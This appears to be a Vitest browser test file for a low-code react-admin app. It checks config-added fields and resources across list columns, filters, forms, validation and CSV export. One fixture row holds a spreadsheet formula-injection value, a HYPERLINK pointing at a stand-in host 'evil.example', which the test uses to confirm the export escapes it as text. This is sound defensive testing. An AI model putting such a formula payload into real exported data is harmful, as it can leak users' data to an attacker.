/**
 * Low-code proof, browser side: with the edited config of tests/server/lowcodeConfig.ts
 * (one field entry, one resource block) the list shows the column, the filter and the form
 * offer it, the form validates it, the CSV export carries it, and the new resource has
 * its screens, all without a line of view code.
 */
import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it, vi } from 'vitest';
import type { ResourceRoute } from '../../../src/config/routes';
import { appRoutes } from '../../../src/instance';
import { lowcodeConfig, tombGateRoute } from '../../server/lowcodeConfig';
import { memoryDataProvider } from './memoryDataProvider';
import { renderResource } from './renderResource';

const findRoute = appRoutes.findRoute;

// Whole react-admin screens render here; a shared 2-core machine needs more than the default 30 s.
vi.setConfig({ testTimeout: 90_000 });

const areas = findRoute('/tomb/tombList') as ResourceRoute;
const rows = () => ({
  'tomb/tombList': [
    { id: 1, version: 1, name: 'North', code: 'N', sort: 1, manager_phone: '13800001111' },
    { id: 2, version: 1, name: 'South', code: 'S', sort: 2, manager_phone: null, description: '=HYPERLINK("http://evil.example/?leak","Click")' },
  ],
});

describe('a field added in the config', () => {
  it('is a list column, a filter and part of the CSV export', async () => {
    const { provider } = memoryDataProvider(rows());
    const blobs: Blob[] = [];
    URL.createObjectURL = (b: Blob) => {
      blobs.push(b);
      return 'blob:csv';
    };
    renderResource({ routes: [areas], url: '/tomb/tombList', dataProvider: provider, level: 5, config: lowcodeConfig });
    const row = (await screen.findByText('North')).closest('tr')!;
    expect(screen.getByRole('columnheader', { name: /Manager phone/ })).toBeInTheDocument();
    expect(within(row).getByText('13800001111')).toBeInTheDocument();
    const user = userEvent.setup();
    await user.click(screen.getByRole('button', { name: 'Add filter' }));
    expect(await screen.findByRole('menuitemcheckbox', { name: 'Manager phone' })).toBeInTheDocument();
    await user.keyboard('{Escape}');
    const exportButton = screen.getAllByRole('button', { name: 'Export' }).find((b) => !b.closest('[data-test="bulk-actions-toolbar"]'))!;
    await user.click(exportButton);
    await waitFor(() => expect(blobs).toHaveLength(1));
    // jsdom's Blob has no text(): read its bytes, keeping the byte-order mark spreadsheets need.
    const csv = await new Promise<string>((resolve) => {
      const reader = new FileReader();
      reader.onload = () => resolve(new TextDecoder('utf-8', { ignoreBOM: true }).decode(reader.result as ArrayBuffer));
      reader.readAsArrayBuffer(blobs[0]);
    });
    // Every field of the record, the import batch (empty: made in the product) before the added one.
    expect(csv.split('\r\n')[0]).toBe('\ufeffID,Name,Code,Sort order,Image,Description,Import batch,Manager phone');
    expect(csv).toContain('1,North,N,1,,,,13800001111');
    // A remark a spreadsheet would run as a formula is written as text (CSV injection).
    expect(csv).toContain(`2,South,S,2,,"'=HYPERLINK(""http://evil.example/?leak"",""Click"")",,`);
  });

  it('is a form input validated with the config rule', async () => {
    const { provider, calls } = memoryDataProvider(rows());
    renderResource({ routes: [areas], url: '/tomb/tombList/create', dataProvider: provider, level: 5, config: lowcodeConfig });
    const user = userEvent.setup();
    await user.type(await screen.findByLabelText(/^Name/), 'West');
    await user.type(screen.getByLabelText(/^Code/), 'W');
    const phone = screen.getByLabelText(/^Manager phone/);
    expect(phone).toHaveAttribute('type', 'tel');
    await user.type(phone, 'call the office');
    await user.click(screen.getByRole('button', { name: 'Save' }));
    expect(await screen.findByText(/^Enter an 11-digit mobile/)).toBeInTheDocument();
    await user.clear(phone);
    await user.type(phone, '13800004444');
    await user.click(screen.getByRole('button', { name: 'Save' }));
    await waitFor(() => expect(calls.find((c) => c.method === 'create')?.params.data).toMatchObject({ name: 'West', manager_phone: '13800004444' }));
  });
});

describe('a resource added in the config', () => {
  it('has a list and a form with its reference picker and validation', async () => {
    const { provider } = memoryDataProvider({ ...rows(), 'tomb/tombGateList': [{ id: 1, version: 1, area_id: 1, area: { name: 'North' }, name: 'Main gate', opens_at: '07:00-18:00' }] });
    renderResource({ routes: [areas, tombGateRoute], url: '/tomb/tombGateList', dataProvider: provider, level: 5, config: lowcodeConfig });
    const row = (await screen.findByText('Main gate')).closest('tr')!;
    expect(within(row).getByText('North').closest('a')).toHaveAttribute('href', '/tomb/tombList/1');
    const user = userEvent.setup();
    await user.click(screen.getByRole('link', { name: 'Create' }));
    expect(await screen.findByLabelText(/^Area/)).toHaveAttribute('role', 'combobox');
    await user.type(screen.getByLabelText(/^Opening hours/), 'mornings');
    await user.click(screen.getByRole('button', { name: 'Save' }));
    expect(await screen.findByText('Wrong format')).toBeInTheDocument();
    expect(screen.getAllByText('Required').length).toBeGreaterThanOrEqual(2);
  });
});
